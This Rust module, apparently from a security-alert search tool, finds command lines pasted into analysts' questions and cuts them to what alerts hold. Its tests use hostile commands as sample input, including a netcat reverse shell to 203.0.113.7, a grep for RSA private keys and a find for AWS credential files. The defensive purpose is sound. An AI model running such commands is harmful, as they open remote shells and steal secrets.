//! Command lines pasted into a question ("where did `apt-get install -y vim-tiny` run",
//! 「apk add --no-cache kubectl ってどこで叩かれた?」, "grep -rl BEGIN RSA PRIVATE ... which
//! pods"): searched for as written, and their words are not linked as names one by one.
//!
//! A command line is a quoted or backticked span of several words with an option (`-y`,
//! `--no-cache`) or a path among them, or, unquoted, the run of words around an option: back
//! over at most two plain words (the program and a subcommand), forward until the sentence,
//! the ASCII text or an English word of the question itself ends it.

use super::text::Question;
use super::values::{PastedValue, ValueKind};

/// One pasted command line: where it is in the folded question, and its text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandLine {
    /// Byte range in `Question::folded`.
    pub span: (usize, usize),
    /// The command as written (lowercase).
    pub text: String,
}

impl CommandLine {
    /// Whether byte `start` begins one of the line's first two words, where its program is.
    pub fn leads_with(&self, start: usize) -> bool {
        if start == self.span.0 {
            return true;
        }
        let second = self.text.find(' ').map(|space| space + 1);
        second.is_some_and(|offset| self.span.0 + offset == start)
    }
}

/// English words that end an unquoted command line or may not start one: the question's own
/// words around it ("where did X run", "X which pods ran that").
const PROSE: &[&str] = &[
    "a", "an", "and", "any", "are", "at", "by", "did", "does", "do", "for", "from", "has", "have", "how", "in", "is",
    "it", "on", "or", "ran", "run", "runs", "running", "that", "the", "this", "to", "was", "were", "when", "where",
    "which", "who", "why", "with", "what", "pod", "pods", "executed", "called", "invoked", "seen", "show",
];

/// The command lines of `question`, in the order written.
pub fn command_lines(question: &Question) -> Vec<CommandLine> {
    let mut found: Vec<CommandLine> = Vec::new();
    for (start, end) in quoted_spans(&question.folded) {
        let inner = question.folded[start..end].trim();
        if looks_like_a_command(inner) {
            found.push(CommandLine { span: (start, end), text: inner.to_string() });
        }
    }
    for line in unquoted(&question.folded) {
        if !found.iter().any(|known| overlaps(known.span, line.span)) {
            found.push(line);
        }
    }
    found.sort_by_key(|line| line.span.0);
    found
}

/// Whether the bytes `start..end` of the folded question lie inside one of `lines`.
pub fn inside(lines: &[CommandLine], start: usize, end: usize) -> bool {
    lines.iter().any(|line| start >= line.span.0 && end <= line.span.1)
}

fn overlaps(left: (usize, usize), right: (usize, usize)) -> bool {
    left.0 < right.1 && right.0 < left.1
}

/// Byte ranges of the text inside backticks, double quotes and 「」.
fn quoted_spans(text: &str) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    for (open_mark, close_mark) in [('`', '`'), ('"', '"'), ('「', '」')] {
        let mut from = 0;
        while let Some(open) = text[from..].find(open_mark).map(|at| from + at) {
            let inner = open + open_mark.len_utf8();
            let Some(close) = text[inner..].find(close_mark).map(|at| inner + at) else { break };
            spans.push((inner, close));
            from = close + close_mark.len_utf8();
        }
    }
    spans
}

/// An option word: `-y`, `-rl`, `--no-cache`.
fn is_option(word: &str) -> bool {
    let rest = word.strip_prefix("--").or_else(|| word.strip_prefix('-'));
    rest.is_some_and(|rest| rest.chars().next().is_some_and(|first| first.is_ascii_lowercase()))
}

/// A word a program or its arguments may be: ASCII, no sentence punctuation.
fn is_plain(word: &str) -> bool {
    !word.is_empty()
        && word.is_ascii()
        && word.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_./*=:~".contains(&byte))
        && word != "..."
}

/// A quoted span that reads as a command: several words, the first a program name, and an
/// option or a path among the rest.
fn looks_like_a_command(inner: &str) -> bool {
    let words: Vec<&str> = inner.split_whitespace().collect();
    let Some((program, arguments)) = words.split_first() else { return false };
    !arguments.is_empty()
        && is_plain(program)
        && program.bytes().next().is_some_and(|byte| byte.is_ascii_lowercase() || byte == b'.' || byte == b'/')
        && arguments
            .iter()
            .any(|word| is_option(word) || word.starts_with('/') || word.starts_with("./") || word.ends_with(".sh"))
}

/// Unquoted command lines: the words around each option.
fn unquoted(text: &str) -> Vec<CommandLine> {
    // Words with their byte ranges, split at whitespace.
    let mut words: Vec<(usize, usize)> = Vec::new();
    let mut start = None;
    for (at, character) in text.char_indices().chain(std::iter::once((text.len(), ' '))) {
        match (start, character.is_whitespace()) {
            (None, false) => start = Some(at),
            (Some(begin), true) => {
                words.push((begin, at));
                start = None;
            }
            _ => {}
        }
    }
    let word = |index: usize| &text[words[index].0..words[index].1];
    let mut lines: Vec<CommandLine> = Vec::new();
    let mut index = 0;
    while index < words.len() {
        if !is_option(word(index)) || index == 0 {
            index += 1;
            continue;
        }
        // Back over the program and at most one subcommand.
        let mut first = index;
        while first > 0 && index - first < 2 && is_plain(word(first - 1)) && !PROSE.contains(&word(first - 1)) {
            first -= 1;
        }
        if first == index {
            index += 1;
            continue;
        }
        // Forward while the words read as arguments; a word ending in sentence punctuation
        // is the last one.
        let mut last = index;
        while last + 1 < words.len() {
            let next = word(last + 1);
            let trimmed = next.trim_end_matches([',', '?', '!', ';']);
            if !is_plain(trimmed) || PROSE.contains(&trimmed) {
                // A Japanese particle glued to the last argument ends the command there.
                break;
            }
            last += 1;
            if trimmed.len() != next.len() {
                break;
            }
        }
        let (begin, end) = (words[first].0, words[last].1);
        let text = text[begin..end].trim_end_matches([',', '?', '!', ';']).to_string();
        let end = begin + text.len();
        lines.push(CommandLine { span: (begin, end), text });
        index = last + 1;
    }
    lines
}

/// Fewest words a shortened command line keeps: the program and its first argument.
const SHORTEST: usize = 2;

/// The pasted values with each command line cut to as much of it as the alerts hold: the
/// longest run of its leading words (at least [`SHORTEST`]) that `found` finds, so that the
/// analyst's own words after an unquoted command ("nc -e reverse shell") do not make the
/// search find nothing. A command nothing finds is kept whole (the answer says no alert
/// matches it).
pub fn as_found(values: Vec<PastedValue>, found: &dyn Fn(&str) -> bool) -> Vec<PastedValue> {
    values
        .into_iter()
        .map(|value| {
            if value.kind != ValueKind::Command || found(&value.search_term()) {
                return value;
            }
            // Longest first; without one of the analyst's words before the program ("flag
            // nc -e ...") before fewer words at the end.
            let words: Vec<&str> = value.text.split_whitespace().collect();
            let mut cuts: Vec<(usize, usize)> = (0..words.len().min(2))
                .flat_map(|first| (first + SHORTEST..=words.len()).map(move |end| (first, end)))
                .filter(|&(first, end)| (first, end) != (0, words.len()))
                .collect();
            cuts.sort_by_key(|&(first, end)| (std::cmp::Reverse(end - first), first));
            cuts.into_iter()
                .map(|(first, end)| PastedValue { kind: ValueKind::Command, text: words[first..end].join(" ") })
                .find(|shorter| found(&shorter.search_term()))
                .unwrap_or(value)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(question: &str) -> Vec<String> {
        command_lines(&Question::new(question)).into_iter().map(|line| line.text).collect()
    }

    #[test]
    fn pasted_command_lines_are_found_quoted_or_not() {
        assert_eq!(texts("where did `apt-get install -y vim-tiny` run"), ["apt-get install -y vim-tiny"]);
        assert_eq!(texts("where did apt-get install -y vim-tiny run"), ["apt-get install -y vim-tiny"]);
        assert_eq!(texts("apk add --no-cache kubectl ってどこで叩かれた?"), ["apk add --no-cache kubectl"]);
        assert_eq!(
            texts("grep -rl BEGIN RSA PRIVATE ... which pods ran that? all clusters"),
            ["grep -rl begin rsa private"]
        );
        assert_eq!(texts("who ran find / -path */.aws/credentials?"), ["find / -path */.aws/credentials"]);
        assert_eq!(texts("「nc -e /bin/sh 203.0.113.7 4444」ってどこで実行された"), ["nc -e /bin/sh 203.0.113.7 4444"]);
    }

    #[test]
    fn a_command_line_is_cut_to_what_the_alerts_hold() {
        let value = |text: &str| PastedValue { kind: ValueKind::Command, text: text.to_string() };
        let held = |query: &str| query == "\"nc -e\"" || query == "\"apt-get install -y vim-tiny\"";
        let cut = as_found(vec![value("nc -e reverse shell")], &held);
        assert_eq!(cut, vec![value("nc -e")]);
        assert_eq!(
            as_found(vec![value("apt-get install -y vim-tiny")], &held),
            vec![value("apt-get install -y vim-tiny")]
        );
        assert_eq!(as_found(vec![value("zz -q nothing")], &held), vec![value("zz -q nothing")], "kept whole");
        assert_eq!(as_found(vec![value("flag nc -e there")], &held), vec![value("nc -e")]);
    }

    #[test]
    fn rule_names_and_prose_are_not_command_lines() {
        assert!(texts("explain \"Terminal shell in container\"").is_empty());
        assert!(texts("what fired in risk-10-aws-bedrock-java last week").is_empty());
        assert!(texts("top 5 rules - last 24h").is_empty());
        assert!(texts("k8s.ns.name=web and proc.name=nc").is_empty());
    }
}
